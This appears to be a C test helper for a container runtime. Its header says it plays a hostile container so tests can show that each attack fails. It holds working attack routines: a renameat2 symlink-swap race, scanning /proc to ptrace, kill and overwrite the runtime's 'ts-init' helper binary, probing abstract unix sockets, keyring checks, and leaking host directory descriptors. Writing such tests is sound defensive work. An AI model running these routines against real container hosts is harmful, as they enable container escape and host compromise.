/*
 * What a hostile container does, or a hostile neighbour that shares a volume: one static program, a sub-command per
 * attack. Each prints "ready" when it is at work, and attacks as fast as it can until SIGTERM. Then it prints its
 * results as lines of "name count". So a test can show that the attack took place and got nothing.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define FAILED 125

static volatile sig_atomic_t over;

static void on_term(int number) {
    (void)number;
    over = 1;
}

static int fail(const char *what) {
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    return FAILED;
}

static void ready(void) {
    struct sigaction action = {.sa_handler = on_term};
    sigaction(SIGTERM, &action, NULL);
    puts("ready");
    fflush(stdout);
}

/* swap A B...: exchanges the names of each pair without a pause, so that each is now a directory, now a symlink */
static int cmd_swap(char **argv) {
    unsigned long swaps = 0;
    ready();
    while (!over)
        for (char **pair = argv; pair[0] != NULL && pair[1] != NULL; pair += 2) {
            if (syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 2 /* RENAME_EXCHANGE */) < 0)
                return fail(pair[0]);
            swaps++;
        }
    printf("swaps %lu\n", swaps);
    return 0;
}

static int is_number(const char *text) {
    return text[0] != 0 && text[strspn(text, "0123456789")] == 0;
}

static int is_helper_exe(const char *pid) {
    char path[300], target[256];
    snprintf(path, sizeof(path), "/proc/%.64s/exe", pid);
    ssize_t size = readlink(path, target, sizeof(target) - 1);
    target[size > 0 ? size : 0] = 0;
    return strstr(target, "ts-init") != NULL;
}

/* Tries to open the file of the fd for writing through procfs, for as long as the process that executes it may live. */
static int overwrite(int fd) {
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (int i = 0; i < 2000; i++) {
        int out = open(path, O_WRONLY | O_CLOEXEC);
        if (out < 0)
            continue;
        int done = write(out, "#!/bin/sh\n", 10) == 10 || ftruncate(out, 0) == 0;
        close(out);
        if (done)
            return 1;
    }
    return 0;
}

/* joiners: looks at every process of the runtime that appears here, traces it, and overwrites its program */
static int cmd_joiners(char **argv) {
    (void)argv;
    unsigned long seen = 0, looked = 0, traced = 0, opened = 0, exe = 0, written = 0;
    pid_t last = 0;
    ready();
    while (!over) {
        DIR *proc = opendir("/proc");
        if (proc == NULL)
            return fail("/proc");
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
            char path[300];
            pid_t pid = atoi(entry->d_name);
            if (!is_number(entry->d_name) || pid == getpid())
                continue;
            seen += pid != last;
            last = pid;
            /*
             * execve gives away the link and the memory in one step: a process that may read the link may do all to
             * the helper
             */
            looked += is_helper_exe(entry->d_name) ? 1 : 0;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                traced += is_helper_exe(entry->d_name) ? 1 : 0;
                kill(pid, SIGKILL);
                waitpid(pid, NULL, __WALL);
            }
            for (int fd = 5; fd < 16; fd++) {
                snprintf(path, sizeof(path), "/proc/%.64s/fd/%d", entry->d_name, fd);
                int got = open(path, O_PATH | O_CLOEXEC);
                if (got >= 0) {
                    opened++;
                    close(got);
                }
            }
            snprintf(path, sizeof(path), "/proc/%.64s/exe", entry->d_name);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                char link[64], target[256];
                snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
                ssize_t size = readlink(link, target, sizeof(target) - 1);
                target[size > 0 ? size : 0] = 0;
                if (strstr(target, "ts-init") != NULL) {
                    exe++;
                    written += overwrite(fd) ? 1 : 0;
                }
                close(fd);
            }
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            continue;
    }
    printf("seen %lu\nlooked %lu\ntraced %lu\nopened %lu\nexe %lu\nwritten %lu\n", seen, looked, traced, opened, exe, written);
    return 0;
}

/* abstract: connects to every abstract unix socket of the network namespace, and names those that accept */
static int cmd_abstract(char **argv) {
    (void)argv;
    char line[1024];
    FILE *list = fopen("/proc/net/unix", "r");
    if (list == NULL)
        return fail("/proc/net/unix");
    unsigned long tried = 0;
    while (fgets(line, sizeof(line), list) != NULL) {
        char *name = strchr(line, '@');
        if (name == NULL)
            continue;
        name[strcspn(name, "\n")] = 0;
        struct sockaddr_un to = {.sun_family = AF_UNIX};
        size_t size = strlen(name + 1);
        if (size == 0 || size > sizeof(to.sun_path) - 1)
            continue;
        memcpy(to.sun_path + 1, name + 1, size);
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        tried++;
        if (connect(fd, (struct sockaddr *)&to, (socklen_t)(sizeof(to.sun_family) + 1 + size)) == 0)
            printf("connected %s\n", name);
        close(fd);
    }
    fclose(list);
    printf("tried %lu\n", tried);
    return 0;
}

/* connect PATH: the errno of connecting to a socket */
static int cmd_connect(char **argv) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strncpy(to.sun_path, argv[0], sizeof(to.sun_path) - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    puts(connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0 ? "connected" : strerror(errno));
    return 0;
}

/* keyring NUMBER: the name of the session keyring, and whether it has that serial number */
static int cmd_keyring(char **argv) {
    char text[256];
    long key = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
    long size = key < 0 ? key : syscall(SYS_keyctl, 6 /* DESCRIBE */, key, text, sizeof(text) - 1);
    if (size < 0)
        return fail("keyctl");
    text[size < (long)sizeof(text) ? size : (long)sizeof(text) - 1] = 0;
    char *name = strrchr(text, ';');
    printf("%s%s\n", name != NULL ? name + 1 : text, argv[0] != NULL && key == atol(argv[0]) ? " the host's" : "");
    return 0;
}

/* keyring-id: the serial number of the session keyring */
static int cmd_keyring_id(char **argv) {
    (void)argv;
    printf("%ld\n", syscall(SYS_keyctl, 0, -3, 0));
    return 0;
}

/* dirty PROGRAM ARG...: outside the container: executes a program as a careless caller does.
 * Fds 3 to 40 are leaked directories of the host, signals are ignored and blocked, and the umask is strange. */
static int cmd_dirty(char **argv) {
    int root = open("/", O_RDONLY | O_DIRECTORY);
    for (int fd = 3; fd <= 40; fd++)
        if (fd != root && dup2(root, fd) < 0)
            return fail("dup2");
    signal(SIGPIPE, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGUSR2, SIG_IGN);
    sigset_t blocked;
    sigemptyset(&blocked);
    sigaddset(&blocked, SIGTERM);
    sigaddset(&blocked, SIGUSR1);
    sigprocmask(SIG_SETMASK, &blocked, NULL);
    umask(0777);
    execv(argv[0], argv);
    return fail(argv[0]);
}

static const struct command {
    const char *name;
    int (*run)(char **argv);
    int needed; /* arguments */
} COMMANDS[] = {
    {"swap", cmd_swap, 2},       {"joiners", cmd_joiners, 0},       {"abstract", cmd_abstract, 0},
    {"connect", cmd_connect, 1}, {"keyring", cmd_keyring, 0}, {"keyring-id", cmd_keyring_id, 0}, {"dirty", cmd_dirty, 1},
};

int main(int argc, char **argv) {
    for (size_t i = 0; argc > 1 && i < sizeof(COMMANDS) / sizeof(COMMANDS[0]); i++)
        if (strcmp(argv[1], COMMANDS[i].name) == 0 && argc - 2 >= COMMANDS[i].needed)
            return COMMANDS[i].run(argv + 2);
    fputs("attack: bad usage\n", stderr);
    return FAILED;
}
